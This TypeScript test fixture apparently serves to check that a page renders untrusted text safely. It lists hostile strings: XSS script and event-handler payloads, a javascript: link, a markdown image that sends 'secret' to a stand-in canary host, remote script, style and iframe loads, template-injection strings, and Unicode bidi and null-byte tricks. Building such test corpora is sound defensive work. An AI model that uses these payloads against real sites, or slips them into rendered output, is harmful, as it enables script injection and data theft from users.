/** Replies that would act if a page took text for anything else. Where possible, each makes a request to this host. */
export const CANARY_HOST = 'canary.example';

export const HOSTILE_TEXTS: readonly string[] = [
  `<script>document.body.dataset.pwned = '1'; fetch('https://${CANARY_HOST}/')</script>`,
  `<script type="module">import 'https://${CANARY_HOST}/x.js'</script>`,
  `<img src=x onerror="document.body.dataset.pwned = '1'">`,
  `<div onmouseover="document.body.dataset.pwned = '1'" style="position:fixed;inset:0">hover</div>`,
  `[click](javascript:document.body.dataset.pwned='1')`,
  `![pixel](https://${CANARY_HOST}/?q=secret "title")`,
  `<svg onload="document.body.dataset.pwned = '1'"><use href="https://${CANARY_HOST}/x.svg#a"/></svg>`,
  `<iframe src="https://${CANARY_HOST}/"></iframe>`,
  `<object data="https://${CANARY_HOST}/x.swf"></object><embed src="https://${CANARY_HOST}/x">`,
  `<form action="https://${CANARY_HOST}/"><input name=q><button>Send</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://${CANARY_HOST}/">`,
  `<link rel="stylesheet" href="https://${CANARY_HOST}/x.css"><style>@import 'https://${CANARY_HOST}/y.css';</style>`,
  `<video src="https://${CANARY_HOST}/x.mp4" autoplay onloadstart="document.body.dataset.pwned = '1'"></video>`,
  `\${document.body.dataset.pwned = '1'} {{constructor.constructor("document.body.dataset.pwned='1'")()}} <%= 7*7 %>`,
  `\u202Egnp.exe\u202C <\u0000script>document.body.dataset.pwned='1'</script\u2028>`,
  `\`\`\`html\n<script>document.body.dataset.pwned='1'</script>\n\`\`\`\n<https://${CANARY_HOST}/auto>`,
];
